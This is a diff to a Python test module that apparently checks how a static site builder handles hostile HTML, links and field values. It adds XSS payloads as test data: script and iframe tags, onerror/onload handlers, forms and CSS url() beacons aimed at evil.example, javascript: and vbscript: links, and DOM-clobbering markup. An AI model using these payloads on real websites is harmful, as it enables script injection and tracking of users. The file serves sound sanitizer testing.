@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+from collections.abc import Callable
+
 from tests.hostile.cases.case import Case, files, page, quoted, value
-from tests.hostile.folder import NEWS, OVERRIDE
+from tests.hostile.folder import NEWS, OVERRIDE, own_page
+from tests.hostile.kit import Folder
 
 EVIL = "https://evil.example"
 TEMPLATES = {
@@ -63,14 +66,35 @@ HTML = {
     "id-ganda": "<h2 id=isi>x</h2><h2 id=isi>y</h2><a name=isi></a>",
     "dom-clobber": "<h2 id=__md_scope>x</h2><h2 id=location>y</h2><h3 id=document>z</h3>",
     "marquee": "<marquee onstart=alert(1)>a</marquee><blink>b</blink>",
+    "peta": f'<iframe src="{EVIL}/embed?pb=!1m18!1m12&x=1" style="border:0;" loading="lazy"></iframe>\n\nKantor kami.',
+    "word": f"<p class=MsoNormal style='background:url({EVIL}/a)'><b><span style='x:&quot;a&quot;'>Syarat</span></b>"
+    "<o:p></o:p></p>",
+    "sel": f'<table style="background:url({EVIL}/t)"><tr><td onclick=x>Jam buka</td>'
+    f"<td>[ikut](ikut.md), {EVIL}/y</td></tr></table>",
     "cdata": "<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE x [<!ENTITY y 'z'>]>",
 }
-HTML_REFUSED = {
-    **dict.fromkeys(("script-src", "onerror", "iframe", "object", "templat", "video"), "gambar-tidak-terdaftar"),
-    "link": "tautan-putus",
-    "fokus": "jangkar-putus",
+HTML_REFUSED = {"onerror": "gambar-tidak-terdaftar", "fokus": "jangkar-putus", "attr-judul": "tanda-markdown"}
+"""Of these, what is refused for an address or a mark that it has; of all others the harmless rest is built."""
+HTML_SHOWN = {
+    "script": "<script>alert(1)</script>",
+    "script-src": f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
+    "iframe": f'<iframe src="{EVIL}/"></iframe>',
+    "form": f'<form action="{EVIL}/"><input name="nik">',
+    "meta": f'content="0;url={EVIL}/">',
+    "base": f'<base href="{EVIL}/">',
+    "link": f'<link rel=stylesheet href="{EVIL}/x.css">',
+    "svg": "<svg onload=alert(1)>",
+    "object": "<object data='data:text/html,",
+    "templat": "<template>",
+    "video": "<source onerror=alert(1)>",
+    "penutup": "TAKEOVER",
+    "word": "<o:p>",
+    "peta": "Kantor kami.",
+    "sel": "Jam buka",
+    "cdata": "<?php echo 1 ?>",
 }
-"""Of these, what is refused for an address that it has; of all others the harmless rest is built."""
+"""What a reader of the page still sees of some: nothing goes without a word."""
+ACTING = ("alert(1)</script><", "<iframe")
 LINKS = {
     "js": "[klik](javascript:alert(1))",
     "js-besar": "[klik](JaVaScRiPt:alert(1))",
@@ -88,10 +112,14 @@ LINKS = {
     "ftp": "[k](ftp://evil.example/)",
 }
 CODES = {
-    **dict.fromkeys(("js", "js-besar", "js-entitas", "data", "vbscript", "file", "blob", "ftp"), "tautan-asing"),
+    **dict.fromkeys(
+        ("js", "js-besar", "js-entitas", "js-tab", "data", "vbscript", "file", "blob", "ftp"), "tautan-asing"
+    ),
+    **dict.fromkeys(("http", "dua-garis"), "tautan-http"),
     "js-rujukan": "",
 }
-"""What is said of a link that is no broken one: that no site leads there, or nothing, for it stays words."""
+"""What is said of a link that is no broken one: that no site leads there, that it isn't safe, or nothing, for it stays
+words."""
 PICTURES = {
     "luar": f"![x]({EVIL}/track.gif)",
     "data": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
@@ -166,7 +194,14 @@ def templates() -> list[Case]:
 def html() -> list[Case]:
     """What a browser would run, load or follow."""
     found = [
-        page(f"html-{name}", "html", text, HTML_REFUSED.get(name, ""), absent=("alert(1)</script><", "<iframe"))
+        page(
+            f"html-{name}",
+            "html",
+            text,
+            HTML_REFUSED.get(name, ""),
+            present=(HTML_SHOWN[name],) if name in HTML_SHOWN else (),
+            markup=ACTING,
+        )
         for name, text in HTML.items()
     ]
     found += [
@@ -176,7 +211,7 @@ def html() -> list[Case]:
             text,
             CODES.get(name, "tautan-putus"),
             "halaman/uji.md:",
-            absent=("javascript:alert(1)", "vbscript:x", "PHNjcmlwdD4=", "file:///etc", "blob:https", "ftp://evil"),
+            present=("[k]: javascript:alert(1)",) if name == "js-rujukan" else (),
         )
         for name, text in LINKS.items()
     ]
@@ -191,6 +226,17 @@ def html() -> list[Case]:
             {"timpaan/ikut/besar.md": OVERRIDE + "\n" + HTML["script"] + "\n\n" + HTML["penutup"]},
         )
     )
+    built = {name: text for name, text in HTML.items() if name not in HTML_REFUSED}
+    built["js-rujukan"] = LINKS["js-rujukan"]
+    found.append(
+        files(
+            "html-semua",
+            "html",
+            {f"halaman/html-{name}.md": own_page(text) for name, text in built.items()},
+            present=(*HTML_SHOWN.values(), "[k]: javascript:alert(1)"),
+            markup=ACTING,
+        )
+    )
     found.append(files("html-kabar", "html", {"halaman/kabar/buka.md": NEWS + "\n" + HTML["svg"] + "\n"}))
     return found
 
@@ -203,9 +249,13 @@ def fields() -> list[Case]:
             new = f"[{quoted(text)}]" if "[" in old else quoted(text)
             found.append(
                 value(
-                    f"isian-{name}-{kind}", "isian", old, key + new, file=file, absent=(BREAKOUT, "onerror=alert(2)>")
+                    f"isian-{name}-{kind}", "isian", old, key + new, file=file, markup=(BREAKOUT, "onerror=alert(2)>")
                 )
             )
+    found += [
+        Case(f"isian-semua-{kind}", "isian", _in_all_fields(text), markup=(BREAKOUT, "onerror=alert(2)>"))
+        for kind, text in (("html", BREAKOUT), ("markdown", MARKED))
+    ]
     names = {
         "nama": "nama: Kabupaten Jahat",
         "nama-pendek": "nama_pendek: Jahat",
@@ -233,6 +283,16 @@ def fields() -> list[Case]:
             )
         )
     return found
+
+
+def _in_all_fields(text: str) -> Callable[[Folder], None]:
+    """The same text in every field at once."""
+
+    def spoil(folder: Folder) -> None:
+        for file, old, key in FIELDS.values():
+            folder.swap(file, old, key + (f"[{quoted(text)}]" if "[" in old else quoted(text)))
+
+    return spoil
 
 
 CASES = [*templates(), *html(), *fields()]
